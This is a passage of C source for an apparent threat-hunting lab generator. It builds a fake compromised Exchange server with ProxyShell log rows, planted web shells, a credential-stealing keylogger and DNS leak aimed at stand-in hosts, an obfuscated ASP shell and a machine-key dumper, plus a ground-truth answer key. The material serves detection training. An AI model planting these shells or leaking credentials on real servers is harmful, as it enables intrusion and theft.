	    "Page_Load(){ev/*x1*/al(Req<%-- --%>uest.Item[\"AppcacheVer\"],"
	    "\"un\"+\"safe\");}</script>\r\n";
	static const char runner[] =
	    "<%@ Page Language=\"C#\"%><script runat=\"server\">void "
	    "Page_Load(object s,EventArgs e){var i=new System.Diagnostics."
	    "ProcessStartInfo(\"c\"+\"md\",\"/c \"+Request.Form[\"z\"]);i."
	    "UseShellExecute=false;i.RedirectStandardOutput=true;Response."
	    "Write("
	    "System.Diagnostics.Process.Start(i).StandardOutput.ReadToEnd());}"
	    "</script>\r\n";
	static const char tunnel[] =
	    "<%@ WebHandler Language=\"C#\" Class=\"T\" %>\r\nusing System; "
	    "using System.Web; using System.Net.Sockets;\r\npublic class T : "
	    "IHttpHandler, System.Web.SessionState.IRequiresSessionState { "
	    "public bool IsReusable { get { return false; } } public void "
	    "ProcessRequest(HttpContext c) { var t = c.Request.Headers.Get("
	    "\"Xkxr\").Split(':'); var s = new TcpClient(); s.Connect(t[0], "
	    "int.Parse(t[1])); c.Application[c.Request.Headers.Get(\"Sid\")] = "
	    "s; } }\r\n";
	static const char xsl[] =
	    "<%@ Page Language=\"C#\"%><%@ Import "
	    "Namespace=\"System.Xml.Xsl\"%>"
	    "<%var x=new XslCompiledTransform();x.Load(System.Xml.XmlReader."
	    "Create(new System.IO.StringReader(System.Text.Encoding.UTF8."
	    "GetString(Convert.FromBase64String(Request[\"d\"])))),new "
	    "XsltSettings(true,true),null);x.Transform(System.Xml.XmlReader."
	    "Create(new "
	    "System.IO.StringReader(\"<a/>\")),null,Response.Output);"
	    "%>\r\n";
	static const char config[] =
	    "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\r\n<configuration>"
	    "<system.webServer><handlers accessPolicy=\"Read, Script, Write\">"
	    "<add name=\"cfg\" path=\"*.config\" verb=\"*\" "
	    "modules=\"IsapiModule\" "
	    "scriptProcessor=\"%windir%\\system32\\inetsrv\\asp.dll\" "
	    "resourceType=\"Unspecified\" "
	    "/></handlers><security><requestFiltering>"
	    "<fileExtensions><remove fileExtension=\".config\" "
	    "/></fileExtensions>"
	    "</requestFiltering></security></system.webServer></configuration>"
	    "\r\n<!-- <% Response.Write(CreateObject(\"WScript.Shell\").Exec("
	    "Request(\"c\")).StdOut.ReadAll()) %> -->\r\n";
	char name[16], rel[512], *buf;
	size_t n, pad, i;

	iis_row(g->iis, "2021-08-22", "02:10:00", "POST",
	        "/autodiscover/autodiscover.json",
	        "@x.ru/autodiscover/autodiscover.xml?&Email=autodiscover/"
	        "autodiscover.json%3F@x.ru&CorrelationID=<empty>;&cafeReqId="
	        "0f1e2d3c;",
	        "", ATTACKER_IP, "python-requests/2.25.1", 200);
	iis_row(g->iis, "2021-08-22", "02:10:02", "POST",
	        "/autodiscover/autodiscover.json",
	        "@x.ru/mapi/emsmdb/?&Email=autodiscover/autodiscover.json%3F@"
	        "x.ru&CorrelationID=<empty>;&cafeReqId=1a2b3c4d;",
	        "", ATTACKER_IP, "python-requests/2.25.1", 200);
	iis_row(
	    g->iis, "2021-08-22", "02:10:05", "POST",
	    "/autodiscover/autodiscover.json",
	    "@x.ru/powershell/?X-Rps-CAT=VgEAVAdXaW5kb3dzQwBBCEtlcmJlcm9zTBh"
	    "BZG1pbmlzdHJhdG9yQGNvcnAuZXhhbXBsZQ==&Email=autodiscover/"
	    "autodiscover.json%3F@x.ru&CorrelationID=<empty>;&cafeReqId="
	    "5e6f7a8b;",
	    "", ATTACKER_IP, "python-requests/2.25.1", 200);
	raise_truth(g, HC_34473, HL_BACKDOORED);
	raise_truth(g, HC_34523, HL_BACKDOORED);
	if (g->cmdlet) {
		fprintf(g->cmdlet, "2021-08-22T02:10:09.000Z "
		                   "New-ManagementRoleAssignment -Role "
		                   "\"Mailbox Import Export\" -User "
		                   "\"administrator@corp.example\"\r\n");
		fprintf(g->cmdlet, "2021-08-22T02:10:30.000Z "
		                   "Remove-MailboxExportRequest -Identity "
		                   "\"administrator\\MailboxExport\" "
		                   "-Confirm:$false\r\n");
	}
	rand_name(g, name, 7);
	snprintf(rel, sizeof rel, "inetpub/wwwroot/portal/scripts/%s.aspx",
	         name);
	backdoor(g, rel, loader, sizeof loader - 1, 1629598300);
	/* A shipped page with code added at its end. */
	n = sizeof logon_aspx - 1 + sizeof appended - 1;
	buf = malloc(n + 1);
	if (buf) {
		memcpy(buf, logon_aspx, sizeof logon_aspx - 1);
		memcpy(buf + sizeof logon_aspx - 1, appended, sizeof appended);
		backdoor(g, EXCH "/FrontEnd/HttpProxy/owa/auth/logon.aspx", buf,
		         n, 1629598400);
		free(buf);
	}
	/* Past any size limit: 700 KB of page, then the code. */
	pad = 700 * 1024;
	buf = malloc(pad + sizeof runner);
	if (buf) {
		static const char row[] =
		    "<tr><td class=\"help\">Help topic</td><td>See the "
		    "administrator guide.</td></tr>\r\n";
		for (i = 0; i < pad; i++)
			buf[i] = row[i % (sizeof row - 1)];
		memcpy(buf + pad, runner, sizeof runner);
		backdoor(g, EXCH "/ClientAccess/ecp/Help/contents.aspx", buf,
		         pad + sizeof runner - 1, 1629598500);
		free(buf);
	}
	backdoor(g, EXCH "/FrontEnd/HttpProxy/ecp/Proxy.ashx", tunnel,
	         sizeof tunnel - 1, 1629598600);
	/* UTF-16LE with a byte-order mark. */
	n = 2 + 2 * (sizeof xsl - 1);
	buf = calloc(1, n);
	if (buf) {
		buf[0] = (char)0xff;
		buf[1] = (char)0xfe;
		for (i = 0; i + 1 < sizeof xsl; i++)
			buf[2 + 2 * i] = xsl[i];
		backdoor(g, EXCH "/ClientAccess/Owa/auth/health.aspx", buf, n,
		         1629598700);
		free(buf);
	}
	backdoor(g, "inetpub/wwwroot/uploads/web.config", config,
	         sizeof config - 1, 1629598800);
	/* Passwords taken as users sign in: a keylogger added to the
	 * shipped flogon.js's clkLgn (sent to another site, as found on
	 * Exchange servers in 2024), and a shipped page that appends what
	 * is posted to a file in a folder the web serves. */
	{
		static const char keylogger[] =
		    "function gbid(s){return document.getElementById(s);}\n"
		    "function clkLgn(){try{var u=gbid(\"username\").value;"
		    "var p=document.getElementById(\"password\").value;"
		    "var x=new XMLHttpRequest();x.open(\"POST\","
		    "\"https://static-owa-cdn.example.org/c\",true);"
		    "x.send(\"u=\"+encodeURIComponent(u)+\"&p=\"+"
		    "encodeURIComponent(p));}catch(e){}"
		    "document.forms[0].submit();return false;}\n";
		static const char keeper[] =
		    "<%@ Page language=\"c#\" AutoEventWireup=\"false\" "
		    "Inherits=\"Microsoft.Exchange.HttpProxy.Logon\" %>\r\n"
		    "<% if (Request.HttpMethod == \"POST\") { "
		    "System.IO.File.AppendAllText(Server.MapPath(\"/owa/auth/"
		    "15.1.2176/themes/resources/lgn.dat\"), Request.Form["
		    "\"username\"] + \":\" + Request.Form[\"password\"] + "
		    "\"\\r\\n\"); } %>\r\n"
		    "<html><body><form method=\"POST\"></form></body></html>"
		    "\r\n";
		backdoor(g,
		         EXCH "/FrontEnd/HttpProxy/owa/auth/15.1.2176/scripts/"
		              "premium/flogon.js",
		         keylogger, sizeof keylogger - 1, 1629598900);
		backdoor(
		    g, EXCH "/FrontEnd/HttpProxy/owa/auth/expiredpassword.aspx",
		    keeper, sizeof keeper - 1, 1629599000);
		g->passwords_taken = 1629598900;
	}
	/* Hidden from a search for the words: a classic ASP shell whose
	 * object and request names are reversed or padded, and a shipped
	 * page that leaks each password typed as a DNS name (no web
	 * request leaves the server). */
	{
		static const char asp[] =
		    "<%\r\nDim o, k\r\nk = Replace(\"WQScQriQpt.SQhell\", "
		    "\"Q\", \"\")\r\nSet o = Server.CreateObject(k)\r\n"
		    "Execute(StrReverse(\")\"\"d\"\"(tseuqeR = c\"))\r\n"
		    "Response.Write o.Exec(\"cmd /c \" & "
		    "c).StdOut.ReadAll()\r\n"
		    "%>\r\n";
		static const char dns[] =
		    "<%@ Page language=\"c#\" AutoEventWireup=\"false\" "
		    "Inherits=\"Microsoft.Exchange.HttpProxy.Logon\" %>\r\n"
		    "<script runat=\"server\">\r\nprotected override void "
		    "OnLoad(EventArgs e) {\r\n  string u = Request.Form["
		    "\"username\"], p = Request.Form[\"password\"];\r\n  if "
		    "(p != null) { string h = BitConverter.ToString(System."
		    "Text.Encoding.UTF8.GetBytes(u + \":\" + "
		    "p)).Replace(\"-\", "
		    "\"\");\r\n    try { System.Net.Dns.GetHostAddresses(h."
		    "Substring(0, Math.Min(60, h.Length)) + \".n.msft-cdn."
		    "example\"); } catch { } }\r\n  base.OnLoad(e);\r\n}\r\n"
		    "</script>\r\n<html><body></body></html>\r\n";
		rand_name(g, name, 6);
		snprintf(rel, sizeof rel,
		         "inetpub/wwwroot/portal/scripts/%s.asp", name);
		backdoor(g, rel, asp, sizeof asp - 1, 1629599100);
		backdoor(g, EXCH "/FrontEnd/HttpProxy/owa/auth/OutlookCN.aspx",
		         dns, sizeof dns - 1, 1629599200);
	}
	/* Kept as old ASP shells often are: encoded with Microsoft's
	 * Script Encoder, read only once decoded. */
	{
		static const char body[] =
		    "Dim s\r\nIf Request.Form(\"q\") <> \"\" Then\r\n"
		    "\tSet s = Server.CreateObject(\"WScript.Shell\")\r\n"
		    "\tResponse.Write \"<pre>\" & s.Exec(\"cmd /c \" & "
		    "Request.Form(\"q\")).StdOut.ReadAll() & \"</pre>\"\r\n"
		    "End If\r\n";
		char enc[2 * sizeof body + 24], page[sizeof enc + 64];
		size_t m = screnc_encode((const uint8_t *)body, sizeof body - 1,
		                         enc, sizeof enc);
		int k = snprintf(page, sizeof page,
		                 "<%%@ LANGUAGE = VBScript.Encode %%>\r\n"
		                 "<%%%.*s%%>\r\n",
		                 (int)m, enc);
		rand_name(g, name, 7);
		snprintf(rel, sizeof rel,
		         "inetpub/wwwroot/aspnet_client/system_web/%s.asp",
		         name);
		backdoor(g, rel, page, (size_t)k, 1629599150);
	}
	/* The machine keys printed for whoever asks (as the 2025 SharePoint
	 * drop did): forged ViewState runs code with them later. */
	{
		static const char keys[] =
		    "<%@ Page Language=\"C#\" %><%@ Import Namespace=\"System."
		    "Reflection\" %><% var c = (System.Web.Configuration."
		    "MachineKeySection)typeof(System.Web.Configuration."
		    "MachineKeySection).GetMethod(\"GetApplicationConfig\", "
		    "BindingFlags.Static | "
		    "BindingFlags.NonPublic).Invoke(null, "
		    "new object[0]); Response.Write(c.ValidationKey + \"|\" + "
		    "c.Validation + \"|\" + c.DecryptionKey + \"|\" + "
		    "c.Decryption); %>\r\n";
		backdoor(g, EXCH "/FrontEnd/HttpProxy/ecp/auth/kv.aspx", keys,
		         sizeof keys - 1, 1629599300);
		g->keys_taken = true;
	}
}

/* CVE-2021-26857: the UM deserialization as the Application log shows
 * it, after ProxyLogon's SSRF, then LSASS dumped (event logs only). */
static void sc_proxylogon_um(struct gen *g)
{
	proxylogon_ssrf(g, false);
	winhost_um_exploit(g->win);
	raise_truth(g, HC_26857, HL_EXPLOITED);
}

/* ProxyShell's drop told by the MSExchange Management log alone (the
 * cmdlet logs and the file itself are gone). */
static void sc_proxyshell_export(struct gen *g)
{
	winhost_mailbox_export(g->win);
	raise_truth(g, HC_34523, HL_EXPLOITED);
	raise_truth(g, HC_31207, HL_EXPLOITED);
}

/* Weeks later, the ways back in (event logs and hives). */
static void sc_returned_later(struct gen *g)
{
	winhost_returned(g->win);
}

#ifndef _WIN32
/* What the image of a compromised tree adds: a second shell the attacker
 * deleted (its MFT entry stays, with its bytes: small files live in the
 * entry) and the first script back door's creation time set back. A
 * clean tree gets neither (it must stay clean). */
static void image_extras(struct gen *g, struct image_extra *x)
{
	static char deleted[160];
	static const char one_liner[] =
	    "<%@ Page Language=\"Jscript\"%><%eval(Request.Item[\"p\"],"
	    "\"unsafe\");%>";
	int i;

	memset(x, 0, sizeof *x);
	if (!g->nbackdoors)
		return;
	snprintf(deleted, sizeof deleted,
	         "inetpub/wwwroot/aspnet_client/system_web/%08llx.aspx",
	         (unsigned long long)(rng_next(&g->r) & 0xffffffffull));
	x->deleted_path = deleted;
	x->deleted_text = one_liner;
	for (i = 0; i < g->nbackdoors; i++) {
		const char *b = g->backdoors[i];
		size_t n = strlen(b);
		if (n > 5 && (!strcmp(b + n - 5, ".aspx") ||
		              !strcmp(b + n - 5, ".ashx"))) {
			x->stomped_path = b;
			x->stomped_to = 1468670400; /* 2016-07-16 */
			break;
		}
	}
}
#endif

int lab_host_write(const struct host_opts *o, const char *truth_path)
{
	struct image_extra x = {0};
	struct gen g;
	struct view list = view_of(o->scenarios), item;
	FILE *t;
	int c, i;
	static const struct {
		const char *name;
		void (*fn)(struct gen *);
	} table[] = {
	    {"proxylogon-shell", sc_proxylogon_shell},
	    {"proxylogon-attempt", sc_proxylogon_attempt},
	    {"proxylogon-iis", sc_proxylogon_iis},
	    {"proxylogon-oabgen", sc_proxylogon_oabgen},
	    {"proxyshell-pst", sc_proxyshell_pst},
	    {"proxyshell-attempt", sc_proxyshell_attempt},
	    {"proxynotshell", sc_proxynotshell},
	    {"owassrf", sc_owassrf},
	    {"proxytoken", sc_proxytoken},
	    {"proxyshell-hidden", sc_proxyshell_hidden},
	    {"proxylogon-um", sc_proxylogon_um},
	    {"proxyshell-export", sc_proxyshell_export},
	    {"returned-later", sc_returned_later},
	};

	/* Check the names before writing anything. */
	for (list = view_of(o->scenarios); list.len;) {
		const char *const *n;
		view_split(&list, ',', &item);
		item = view_trim(item);
		for (n = lab_scenarios; *n && !view_eq(item, view_of(*n)); n++)
			;
		if (!*n) {
			log_error("--scenario: '%.*s': not a scenario (exhunt "
			          "lab host "
			          "--help lists them)",
			          (int)item.len, item.p);
			return EXIT_USAGE;
		}
	}
	list = view_of(o->scenarios);
	memset(&g, 0, sizeof g);
	g.dir = o->dir;
	g.r.s = rng_mix(o->seed ^ 0x686f7374ull);
	if (mkdir(o->dir, 0755) && errno != EEXIST) {
		log_error("%s: %s", o->dir, strerror(errno));
		return EXIT_RUNTIME;
	}
	g.win = winhost_new(o->seed);
	if (!g.win) {
		log_error("out of memory");
		return EXIT_RUNTIME;
	}
	shipped(&g);
	g.httpproxy_ecp = open_httpproxy(&g, "Ecp");
	g.httpproxy_owa = open_httpproxy(&g, "Owa");
	g.httpproxy_ad = open_httpproxy(&g, "Autodiscover");
	g.iis = create(&g, "inetpub/logs/LogFiles/W3SVC1/u_ex210301.log");
	if (g.iis)
		iis_header(g.iis);
	/* the back-end site (Exchange Back End, port 444): an
	 * administrator resetting the OAB directory in ECP */
	g.iis_be = create(&g, "inetpub/logs/LogFiles/W3SVC2/u_ex210301.log");
	if (g.iis_be) {
		iis_header(g.iis_be);
		fprintf(g.iis_be,
		        "2021-01-04 10:00:00 10.0.0.5 POST "
		        "/ecp/DDI/DDIService.svc/SetObject "
		        "schema=ResetOABVirtualDirectory&msExchEcpCanary=Yq3 "
		        "444 CORP\\admin 10.0.0.20 Mozilla/5.0 - 200 0 0 31\r\n");
	}
	g.ecp = create(&g, EXCH "/Logging/ECP/Server/ECPServer20210303-1.LOG");
	if (g.ecp)
		fprintf(g.ecp,
		        "#Software: Microsoft Exchange Server\r\n#Log-type: "
		        "ECP Server Log\r\n"
		        "#Fields: TimeStamp,ServerName,EventId,EventData\r\n"
		        "2021-01-02T03:04:05.000Z,EXCH01,ECP.Request,\"S:CMD="
		        "Get-InboxRule;"
		        "S:URL=/ecp/RulesEditor/InboxRules.svc\"\r\n"
		        "2021-01-02T03:05:00.000Z,EXCH01,ECP.Request,\"S:CMD="
		        "New-InboxRule.Mailbox='alice@corp.example'.Name="
		        "'Invoices'.MoveToFolder='Invoices';S:URL=/ecp/"
		        "RulesEditor/InboxRules.svc/NewObject\"\r\n");
	g.oab = create(
	    &g, EXCH "/Logging/OABGeneratorLog/OABGeneratorLog_20210303-1.LOG");
	if (g.oab)
		fprintf(g.oab, "2021-01-05T02:00:00.000Z [OABGen] Download "
		               "failed and temporary "
		               "file 'C:\\Program Files\\Microsoft\\Exchange "
		               "Server\\V15\\ClientAccess"
		               "\\OAB\\Temp\\x.lzx' needs to be removed\r\n");
	g.cmdlet = create(&g, EXCH "/Logging/CmdletInfra/LocalPowerShell/"
	                           "Cmdlet/Cmdlet_20210820-1.LOG");
	if (g.cmdlet)
		fprintf(g.cmdlet, "2021-01-03T10:00:00.000Z Get-Mailbox "
		                  "-ResultSize Unlimited\r\n");
	/* remote PowerShell's HTTP log: the management shell (WinRM), the
	 * health probes, a request naming no client */
	g.rps = create(&g, EXCH "/Logging/CmdletInfra/Powershell-Proxy/Http/"
	                        "Rps_Http_2021010300-1.LOG");
	if (g.rps) {
		fprintf(g.rps,
		        "#Software: Microsoft Exchange Server\r\n#Version: "
		        "15.01.2375.007\r\n#Log-type: Rps Http Logs\r\n"
		        "#Date: 2021-01-03T00:00:00.000Z\r\n#Fields: DateTime,"
		        "StartTime,RequestId,UrlStem,AuthenticatedUser,"
		        "ClientIpAddress,FrontEndServer,ServerHostName,"
		        "HttpStatus,SubStatus,ClientInfo\r\n");
		rps_row(&g, "2021-01-03T10:00:00.000Z", "CORP\\admin",
		        "10.0.0.20", 200, "Microsoft WinRM Client");
		rps_row(&g, "2021-01-03T10:05:00.000Z",
		        "CORP\\HealthMailbox0a1b2c", "10.0.0.5", 200,
		        "Exchange BackEnd Probes");
		rps_row(&g, "2021-01-03T10:06:00.000Z", "CORP\\admin",
		        "10.0.0.20", 200, "");
	}
	benign(&g, o->size_gb);
	winhost_benign(g.win);
	while (list.len) {
		bool known = false;
		view_split(&list, ',', &item);
		item = view_trim(item);
		if (view_eq(item, VIEW_LIT("clean")))
			continue;
		for (i = 0; i < (int)(sizeof table / sizeof table[0]); i++)
			if (view_eq(item, view_of(table[i].name))) {
				table[i].fn(&g);
				known = true;
			}
		if (!known) {
			log_error("--scenario: '%.*s': not a scenario",
			          (int)item.len, item.p);
			g.failed = 2;
		}
	}
	if (g.httpproxy_ecp)
		fclose(g.httpproxy_ecp);
	if (g.httpproxy_owa)
		fclose(g.httpproxy_owa);
	if (g.httpproxy_ad)
		fclose(g.httpproxy_ad);
	if (g.iis)
		fclose(g.iis);
	if (g.ecp)
		fclose(g.ecp);
	if (g.oab)
		fclose(g.oab);
	if (g.cmdlet)
		fclose(g.cmdlet);
	if (g.rps)
		fclose(g.rps);
	if (g.iis_be)
		fclose(g.iis_be);
	if (!g.failed && winhost_write(g.win, o->dir))
		g.failed = 1;
	if (g.failed) {
		winhost_free(g.win);
		return g.failed == 2 ? EXIT_USAGE : EXIT_RUNTIME;
	}
#ifndef _WIN32
	if (o->image)
		image_extras(&g, &x);
	if (o->image && lab_image_write(o->dir, o->image, &x)) {
		winhost_free(g.win);
		return EXIT_RUNTIME;
	}
#else
	if (o->image) {
		log_error("--image: disk images are written by the Linux "
		          "build");
		winhost_free(g.win);
		return EXIT_USAGE;
	}
#endif
	t = fopen(truth_path, "w");
	if (!t) {
		log_error("%s: %s", truth_path, strerror(errno));
		winhost_free(g.win);
		return EXIT_RUNTIME;
	}
	fprintf(t, "{\"seed\":%llu,\"scenarios\":\"%s\",\"verdicts\":{",
	        (unsigned long long)o->seed, o->scenarios);
	for (c = 0; c < HC_COUNT; c++)
		fprintf(t, "%s\"%s\":\"%s\"", c ? "," : "", hunt_cve_ids[c],
		        hunt_level_word(g.truth[c]));
	fprintf(t, "},\"backdoors\":[");
	for (i = 0; i < g.nbackdoors; i++)
		fprintf(t, "%s\"%s\"", i ? "," : "", g.backdoors[i]);
	/* the ways back in a hunt must list (finding kinds, high or worse) */
	fprintf(t, "],\"persistence\":[%s]", winhost_persistence(g.win));
	/* when a back door began taking passwords (absent: none did) */
	if (g.passwords_taken) {
		char when[32];
		time_iso((int64_t)g.passwords_taken, when);
		fprintf(t, ",\"passwords_taken\":\"%s\"", when);
	}
	/* whether a page read the machine keys (they must be rotated) */
	fprintf(t, ",\"keys_taken\":%s", g.keys_taken ? "true" : "false");
	/* the back doors the IIS log shows used, and the scripts it shows
	 * answering that are not on disk */
	fprintf(t, ",\"webshell_used\":[");
	for (i = 0; i < g.nused; i++)
		fprintf(t, "%s\"%s\"", i ? "," : "", g.used[i]);
	fprintf(t, "],\"webshell_gone\":[");
	for (i = 0; i < g.ngone; i++)
		fprintf(t, "%s\"%s\"", i ? "," : "", g.gone[i]);
	fprintf(t, "]");
	/* a tunnel out was opened (its step must be there) */
	fprintf(t, ",\"tunnel\":%s", winhost_tunnel(g.win) ? "true" : "false");
	/* mail access granted (finding kinds, medium or worse) */
	{
		const char *wm = winhost_mail_access(g.win);
		fprintf(t, ",\"mail_access\":[%s%s%s]", g.mail,
		        g.mail[0] && wm[0] ? "," : "", wm);
	}
	/* what the image shows beyond the folder (finding kinds by path) */
	fprintf(t, ",\"image_only\":[");
	if (o->image && x.deleted_path)
		fprintf(t,
		        "{\"kind\":\"deleted-script\",\"path\":\"%s\"},"
		        "{\"kind\":\"webshell\",\"path\":\"%s\"}",
		        x.deleted_path, x.deleted_path);
	if (o->image && x.stomped_path)
		fprintf(t, "%s{\"kind\":\"timestomped\",\"path\":\"%s\"}",
		        x.deleted_path ? "," : "", x.stomped_path);
	fprintf(t, "]}\n");
	winhost_free(g.win);
	return fclose(t) ? EXIT_RUNTIME : 0;
}
